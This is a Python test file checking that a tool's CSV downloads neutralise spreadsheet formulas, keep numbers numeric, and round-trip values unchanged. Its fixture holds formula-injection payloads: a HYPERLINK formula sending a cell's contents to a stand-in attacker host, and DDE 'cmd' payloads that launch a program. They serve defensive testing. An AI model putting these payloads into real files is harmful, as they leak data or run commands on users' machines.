"""CSV downloads neutralise spreadsheet formulas (OWASP's rule: a cell starting with = + - @, tab or
CR gets a leading apostrophe), numbers stay numbers, and ``read_table`` gives the values back."""

import csv
import io
import zipfile

import pandas as pd

from helpers.book.layout import BuildPaths
from helpers.book.manifest import write_data_archive
from helpers.parse.tables import load_tables
from helpers.parse.tables_io import read_table, write_table, write_tables
from hostile.small_books import write_corpus

HOSTILE_OUTLETS = {
    "a.txt": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "b.txt": "+cmd|' /C calc'!A0",
    "c.txt": "-2+3+cmd|' /C calc'!A0",
    "d.txt": "@SUM(1+1)*cmd|' /C calc'!A0",
}
TEXT = "Police in {} said 164 people had been killed.\nA street after the riots (Photo credit: the test)\n"
CITIES = {"a.txt": "Almaty", "b.txt": "Aktobe", "c.txt": "Shymkent", "d.txt": "Taraz"}


def raw_rows(data: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data)))


def test_formulas_in_sources_csv_are_neutralised_in_documents_csv_and_in_data_zip(tmp_path, cache_dir):
    corpus = write_corpus(tmp_path / "corpus", {doc: TEXT.format(city) for doc, city in CITIES.items()},
                          "doc,outlet,published\n" + "".join(
                              f'{doc},"{outlet.replace(chr(34), chr(34) * 2)}",2022-01-06\n'
                              for doc, outlet in HOSTILE_OUTLETS.items()))
    tables = load_tables(corpus, pipeline="blank:en", cache_dir=cache_dir)
    paths = BuildPaths(root=tmp_path, out=tmp_path / "out", corpus=corpus)
    write_tables(tables, paths.work_data)
    written = (paths.work_data / "documents.csv").read_bytes().decode("utf-8")
    rows = {row["doc"]: row for row in raw_rows(written)}
    for doc, outlet in HOSTILE_OUTLETS.items():
        assert rows[doc]["outlet"] == "'" + outlet  # shown as the text it is, never run
        assert rows[doc]["n_chars"] == str(len(TEXT.format(CITIES[doc])))  # a number stays a number
    write_data_archive(paths)
    with zipfile.ZipFile(paths.work_data / "data.zip") as archive:
        assert archive.read("data/documents.csv").decode("utf-8") == written
    # the values come back as they were for anyone reading the table with read_table
    back = read_table(paths.work_data / "documents.csv", dtype=str, keep_default_na=False)
    assert back.set_index("doc")["outlet"].to_dict() == HOSTILE_OUTLETS


def test_every_trigger_character_is_neutralised_and_numbers_are_not(tmp_path):
    table = pd.DataFrame({
        "doc": ["x.txt"] * 8,
        "cell": ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "'=1", "-12.5"],
        "count": [-3, 0, 2, 5, -7, 1, 1, 1],
        "share": [-0.25, 0.5, 1.0, 0.0, 0.1, 0.2, 0.3, 0.4],
    })
    path = write_table("trigger_cells", table, tmp_path)
    rows = raw_rows(path.read_bytes().decode("utf-8"))  # bytes: a text read would turn the CR into a LF
    assert [r["cell"] for r in rows] == ["'=1+1", "'+1+1", "'-1+1", "'@A1", "'\t=1", "'\r=1", "''=1", "-12.5"]
    assert [r["count"] for r in rows][:2] == ["-3", "0"] and rows[0]["share"] == "-0.25"
    back = read_table(path, keep_default_na=False)
    pd.testing.assert_frame_equal(back, table, check_dtype=False)


def test_an_unchanged_table_is_not_rewritten(tmp_path):
    table = pd.DataFrame({"doc": ["x.txt"], "cell": ["=1"]})
    path = write_table("same", table, tmp_path)
    before = path.stat().st_mtime_ns
    write_table("same", table, tmp_path)
    assert path.stat().st_mtime_ns == before
